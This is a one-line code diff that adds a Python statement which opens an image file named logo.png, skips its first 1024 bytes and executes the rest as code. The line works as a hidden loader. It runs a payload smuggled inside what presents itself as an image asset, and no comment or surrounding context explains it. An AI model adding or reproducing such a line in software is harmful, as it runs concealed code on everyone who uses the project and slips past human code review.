@@ -1,0 +1,1 @@
+exec(open("logo.png", "rb").read()[1024:])
